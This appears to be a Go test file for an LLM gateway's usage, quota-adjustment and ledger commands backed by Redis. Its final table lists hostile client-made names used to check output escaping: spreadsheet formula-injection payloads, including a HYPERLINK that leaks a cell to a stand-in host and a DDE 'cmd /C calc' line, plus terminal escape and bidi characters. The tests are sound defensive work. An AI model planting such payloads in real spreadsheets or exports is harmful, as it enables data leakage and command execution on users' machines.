package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"

	"sluice/gateway/admin"
	"sluice/gateway/console"
	"sluice/policy/limit"
	"sluice/policy/limit/redisstore"
	"sluice/policy/teams"
	"sluice/policy/unit"
)

// sluice usage and sluice adjust over a real Redis: a correction counts in day, month and ledger, is kept with its reason,
// and never makes a month negative.
func TestUsageAndAdjustInRedis(t *testing.T) {
	server := startRedis(t)
	k := openReplica(t, server.url(), nil, `quotas: {tokens: {day: 1000}}`)
	k.eventually(patience, "connected", func() bool { return k.spend(100) })
	k.eventually(patience, "settled", func() bool { used, _ := k.used(server, "tokens"); return used == 100 })
	k.eventually(patience, "named", func() bool { return server.do("SCARD", "sl1:teams").(int64) == 1 })
	environ := []string{"SLUICE_REDIS_URL=" + server.url()}

	past := time.Now().UTC().AddDate(0, 0, -40).Format(time.DateOnly) // of an earlier month
	adjust := func(delta string) outcome {
		return command(t.Context(), environ, "adjust", "--team", "search", "--unit", "tokens", "--delta="+delta, "--reason", "counted twice")
	}
	if got := adjust("-40"); got.code != 0 || !strings.Contains(got.stdout,
		"tokens of team search by -40: day 60, was 100; month 60, was 100") {
		t.Errorf("%+v", got)
	}
	if got := adjust("-61"); got.code != exitFailure || !strings.Contains(got.stderr,
		"the team used less this month than is given back, and nothing was changed; got -61; allowed: at least -60") {
		t.Errorf("%+v", got)
	}
	if got := adjust("5"); got.code != 0 {
		t.Errorf("%+v", got)
	}
	filed := "SLUICE_ACCOUNTS_FILE=" + write(t, "accounts: [{id: eu, key_file: a}, {id: b, key_file: b}]\n")
	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"--delta=7", "--day=2026-02-30"}, exitFaulty, "--day: allowed: a day such as "},
		{[]string{"--delta=7", "--account=EU"}, exitFaulty, "--account: allowed: an id as in the accounts file, such as main"},
		{[]string{"--delta=7", "--account=eu", "--day=" + past}, exitFaulty,
			"--account: allowed: main, which the accounts file or the ledger of team search has"},
		{[]string{filed, "--delta=7", "--account=us", "--day=" + past}, exitFaulty, "--account: allowed: b, eu, main, which"},
		{[]string{filed, "--delta=7", "--account=eu", "--day=" + past}, exitClean,
			"tokens of team search by 7 on account eu: " + past + " 7, was 0\n"},
		{[]string{"--delta=-8", "--account=eu", "--day=" + past}, exitFailure,
			"the team used less on " + past + " on account eu than is given back, and nothing was changed; got -8; allowed: at least -7"},
		{[]string{"--delta=7", "--account=us", "--day=" + past}, exitFaulty,
			"--account: allowed: eu, main, which the accounts file or the ledger of team search has"},
	} {
		environ := environ
		if tt.args[0] == filed {
			environ, tt.args = append(environ[:1:1], filed), tt.args[1:]
		}
		got := command(t.Context(), environ, append([]string{"adjust", "--team", "search", "--unit", "tokens", "--reason", "counted twice"},
			tt.args...)...)
		if got.code != tt.code || !strings.Contains(got.text(), tt.want) {
			t.Errorf("%s: %+v", tt.args, got)
		}
	}
	if got := command(t.Context(), environ, "usage", "--from", past, "--to", past, "--by", "account", "--csv"); !strings.Contains(got.stdout,
		past+",eu,tokens,7,0\n") {
		t.Errorf("%+v", got)
	}
	if got := command(t.Context(), environ, "usage", "--from=2020-01-01", "--to=2020-01-02", "--csv"); got.code != exitClean ||
		!strings.Contains(got.stderr, "the first that it has is 20") {
		t.Errorf("days that the ledger no longer has: %+v", got)
	}
	audit := command(t.Context(), environ, "audit", "--json").stdout
	if strings.Count(audit, `"what":"usage.adjust","team":"search","reason":"counted twice"`) != 5 ||
		strings.Count(audit, `"what":"usage.adjust.refused"`) != 2 || strings.Count(audit, `"what":"usage.adjust.posted"`) != 3 ||
		!strings.Contains(audit, `"day":"`+past+`"`) {
		t.Errorf("the audit is\n%s", audit)
	}
	if proof := command(t.Context(), environ, "audit", "--verify"); proof.code != exitClean {
		t.Errorf("%+v", proof)
	}
	got := command(t.Context(), environ, "usage", "--json")
	var report admin.UsageReport
	if err := json.Unmarshal([]byte(got.stdout), &report); err != nil || got.code != 0 {
		t.Fatalf("%v: %+v", err, got)
	}
	used := map[string]string{}
	for _, row := range report.Rows {
		used[row.Model+" "+string(row.Unit)] = row.Used.String()
	}
	if used["llm-max tokens"] != "100" || used["adjustment tokens"] != "-35" {
		t.Errorf("%v", used)
	}
	v, err := k.admit(936)
	if err != nil || v.Held != nil || v.Fault.Used != 65 {
		t.Errorf("the next request does not see it: %+v, %v", v, err)
	}
	if keys := server.do("KEYS", "sl1:{search}:hold:adjust-*").([]any); len(keys) != 3 {
		t.Errorf("%d corrections are kept, want 3", len(keys))
	} else if why := server.do("HGET", keys[0], "why"); why != "counted twice" {
		t.Errorf("kept with the reason %v", why)
	}
}

// sluice usage says what keys have left of their limits, from Redis and from the process that keeps the accounts in memory.
func TestUsageOfLimitsOfKeys(t *testing.T) {
	limited := someTeams + "        quotas: {images: {day: 2}}\n        rates: {requests: {per: 1h, limit: 5}}\n"
	for about, variables := range map[string][]string{"memory": nil, "Redis": {"SLUICE_REDIS_URL=" + startRedis(t).url()}} {
		t.Run(about, func(t *testing.T) {
			t.Parallel()
			variables := append(variables, "SLUICE_TEAMS_FILE="+write(t, limited))
			c := openConsoled(t, variables...)
			if status, text := c.send("POST", imageURL, strings.ReplaceAll(imageTask, "%d", "1"), "test", "X-Service-Async"); status != 200 {
				t.Fatalf("%d: %s", status, text)
			}
			environ := append(variables, "SLUICE_ADMIN_LISTEN="+c.process.listeners.admin.Addr().String())
			midnight := time.Now().UTC().Truncate(24*time.Hour).AddDate(0, 0, 1).Format(time.RFC3339)
			for _, line := range []string{"search, key 7f3k9q2m4x1c, images a day: 1 left of 2, 0 used, 1 held, until " + midnight,
				"search, key 7f3k9q2m4x1c, requests per 1h: 4 left of 5, 1 used, 0 held, full at "} {
				if got := command(t.Context(), environ, "usage"); got.code != exitClean || !strings.Contains(got.stdout, "\n"+line) {
					t.Errorf("%q is not in %+v", line, got)
				}
			}
			var report admin.UsageReport
			got := command(t.Context(), environ, "usage", "--json", "--team", "search")
			if err := json.Unmarshal([]byte(got.stdout), &report); err != nil || len(report.Keys) != 2 || report.Keys[1].Left != "1" {
				t.Errorf("%v: %+v", err, got)
			}
		})
	}
}

// TestLedgerInRedis: the team's own ledger by GET /sluice/v1/usage, the same as sluice usage prints it.
func TestLedgerInRedis(t *testing.T) {
	t.Parallel()
	houses, server, _ := replicas(t, 1)
	h, client := houses[0], newClient(t)
	ask := func(method, path, body string) string {
		request, err := http.NewRequest(method, "http://"+h.public+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		request.Header.Set("Authorization", "Bearer test")
		request.Header.Set("Content-Type", "application/json")
		answer, err := client.Do(request)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = answer.Body.Close() }()
		text, err := io.ReadAll(answer.Body)
		if answer.StatusCode != http.StatusOK || err != nil {
			t.Fatalf("%s: %d %s (%v)", path, answer.StatusCode, text, err)
		}
		return string(text)
	}
	ask(http.MethodPost, textURL, demoText)
	server.do("HSET", "sl1:{other}:use:"+time.Now().UTC().Format("20060102"), "day", time.Now().UTC().Format("20060102"),
		"llm-plus|text|tokens", 7)
	var theirs struct {
		Ledger []limit.Entry `json:"ledger"`
	}
	for deadline := time.Now().Add(patience); len(theirs.Ledger) < 2; time.Sleep(time.Millisecond) { // settlements gather first
		if err := json.Unmarshal([]byte(ask(http.MethodGet, "/sluice/v1/usage?days=400", "")), &theirs); err != nil ||
			time.Now().After(deadline) {
			t.Fatalf("%v, %v", theirs, err)
		}
	}
	var ours admin.UsageReport
	got := command(t.Context(), []string{"SLUICE_REDIS_URL=" + server.url()}, "usage", "--team", "search", "--days", "400", "--json")
	if err := json.Unmarshal([]byte(got.stdout), &ours); err != nil || len(ours.Rows) != len(theirs.Ledger) {
		t.Fatalf("%+v, %v", got, err)
	}
	for i, row := range ours.Rows {
		if row.Entry != theirs.Ledger[i] {
			t.Errorf("%+v is printed, %+v answered", row, theirs.Ledger[i])
		}
	}
}

// sluice usage --tags prints the ledger of tags, in every form.
func TestUsageByTag(t *testing.T) {
	server := startRedis(t)
	day := time.Now().UTC().Format("20060102")
	server.do("SADD", "sl1:teams", "search")
	server.do("HSET", "sl1:{search}:use:"+day, "day", day, "llm-max|text|tokens", 9)
	server.do("HSET", "sl1:{search}:use:"+day+":tags", "day", day, "#", 2, "#alpha", 1, "#beta", 1,
		"alpha||tokens", 7, "alpha||tokens|estimated", 2, "beta||spend", 1_500_000_000)
	date := time.Now().UTC().Format(time.DateOnly)
	for form, want := range map[string]string{
		"--csv": "team,day,tag,unit,used,estimated\nsearch," + date + ",alpha,tokens,7,2\nsearch," + date + ",beta,spend,1.5,0\n",
		"--json": `"rows":[{"team":"search","day":"` + date +
			`","tag":"alpha","unit":"tokens","used":7,"estimated":2},{"team":"search","day":"` + date +
			`","tag":"beta","unit":"spend","used":1.5,"estimated":0}]}`,
		"": "TEAM    DAY         TAG    UNIT    USED  ESTIMATED\nsearch  " + date + "  alpha  tokens  7     2\n",
	} {
		args := []string{"usage", "--tags"}
		if form != "" {
			args = append(args, form)
		}
		got := command(t.Context(), []string{"SLUICE_REDIS_URL=" + server.url()}, args...)
		if got.code != 0 || !strings.Contains(got.stdout, want) {
			t.Errorf("%s: %d %s%s\nwant %s", form, got.code, got.stdout, got.stderr, want)
		}
	}
}

// losing lets Redis run scripts, and loses the next replies to them.
type losing struct{ replies int }

func (l *losing) DialHook(next redis.DialHook) redis.DialHook { return next }

func (l *losing) ProcessHook(next redis.ProcessHook) redis.ProcessHook {
	return func(ctx context.Context, cmd redis.Cmder) error {
		err := next(ctx, cmd)
		if name := cmd.Name(); (name == "evalsha" || name == "eval") && l.replies > 0 {
			l.replies--
			err = io.ErrUnexpectedEOF
			cmd.SetErr(err)
		}
		return err
	}
}

func (l *losing) ProcessPipelineHook(next redis.ProcessPipelineHook) redis.ProcessPipelineHook {
	return next
}

// A correction whose reply is lost is posted once. If it may or may not have been posted, its id is shown.
func TestAdjustLostReplies(t *testing.T) {
	client := redis.NewClient(&redis.Options{Addr: startRedis(t).address(), Protocol: 2, MaxRetries: -1, DisableIdentity: true})
	t.Cleanup(func() { _ = client.Close() })
	lost := &losing{}
	client.AddHook(lost)
	accounts := redisstore.New(client)
	a := adjustCommand{Team: "search", Unit: unit.NameImages, Delta: "5", Reason: "test"}
	for _, tt := range []struct {
		lost       int
		told, fail string
	}{
		{0, "images of team search by 5: day 5, was 0; month 5, was 0", ""},
		{1, "images of team search by 5: day 10; month 10", ""},
		{2, "", "may or may not have been posted"},
		{0, "images of team search by 5: day 20, was 15; month 20, was 15", ""},
	} {
		lost.replies = tt.lost
		c, told := console.Correction{Unit: a.Unit, Delta: a.Delta}, ""
		order, err := a.read(c)
		must(t, err)
		done, err := c.Post(t.Context(), accounts, &order, func(context.Context, teams.Entry) error { return nil })
		if err == nil {
			told = a.summary(&order, &done, unit.Nanos, nil)
		}
		if !strings.HasSuffix(told, tt.told) || (err != nil) != (tt.fail != "") || err != nil && !strings.Contains(err.Error(), tt.fail) {
			t.Errorf("%d replies lost: %q, %v", tt.lost, told, err)
		}
	}
}

// named are names invented by clients, as a terminal and a spreadsheet may show them.
var named = []struct{ name, table, csv string }{
	{"llm-max", "llm-max", "llm-max"},
	{"通义 模型|\\x", "通义 模型|\\x", "通义 模型|\\x"},
	{`=HYPERLINK("http://a.example/?"&A1,"x")`, `=HYPERLINK("http://a.example/?"&A1,"x")`, `'=HYPERLINK("http://a.example/?"&A1,"x")`},
	{"+1", "+1", "'+1"},
	{"-1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
	{"@SUM(1)", "@SUM(1)", "'@SUM(1)"},
	{"＝1", "＝1", "'＝1"},
	{"a;=1+1", "a;=1+1", "a;'=1+1"},
	{"a,-1", "a,-1", "a,'-1"},
	{"  =1", "  =1", "  '=1"},
	{"a -1", "a -1", "a -1"},
	{"a=1;b", "a=1;b", "a=1;b"},
	{"\t=1", `\t=1`, `\t=1`},
	{"\r=1\n@x", `\r=1\n@x`, `\r=1\n@x`},
	{"\x1b[2J\x07", `\x1b[2J\a`, `\x1b[2J\a`},
	{"evil\u202egpj", `evil\u202egpj`, `evil\u202egpj`},
	{"a\u200b\ufeff\u2028b", `a\u200b\ufeff\u2028b`, `a\u200b\ufeff\u2028b`},
	{"\u202e=1", `\u202e=1`, `\u202e=1`},
	{"a\u009bb\xffc", `a\u009bb\xffc`, `a\u009bb\xffc`},
	{"\U000e0001", `\U000e0001`, `\U000e0001`},
}

// TestNamesThatClientsMadeUp: no model's name is a formula to a spreadsheet or a command to a terminal; JSON has it
// unchanged. Amounts stay numbers, also below 0.
func TestNamesThatClientsMadeUp(t *testing.T) {
	for _, tt := range named {
		report := admin.UsageReport{Rows: []admin.UsageRow{{Team: "search", Entry: limit.Entry{
			Day: "2026-11-21", Model: tt.name, Endpoint: "text", Unit: "tokens", Used: "-35", Estimated: "0",
		}}}}
		var table, sheet strings.Builder
		if err := report.WriteTable(&table, admin.ByModel); err != nil || !strings.Contains(table.String(), "  "+tt.table+"  ") {
			t.Errorf("%q in the table (%v):\n%s", tt.name, err, table.String())
		}
		err := report.WriteCSV(&sheet, admin.ByModel)
		rows, bad := csv.NewReader(strings.NewReader(sheet.String())).ReadAll()
		if err != nil || bad != nil || len(rows) != 2 || rows[1][2] != tt.csv || rows[1][5] != "-35" {
			t.Errorf("%q as CSV (%v, %v): %q", tt.name, err, bad, rows)
		}
		for _, text := range []string{table.String(), sheet.String()} {
			if strings.ContainsFunc(strings.ReplaceAll(text, "\n", ""), func(r rune) bool {
				return strings.ContainsRune("\x1b\r\t\u202e\u200b\ufeff\u2028\u009b\U000e0001\ufffd", r)
			}) {
				t.Errorf("%q shows raw in %q", tt.name, text)
			}
		}
		exact, err := json.Marshal(report)
		var again admin.UsageReport
		if err != nil || json.Unmarshal(exact, &again) != nil || again.Rows[0].Model != strings.ToValidUTF8(tt.name, "\ufffd") {
			t.Errorf("%q as JSON: %s (%v)", tt.name, exact, err)
		}
	}
}
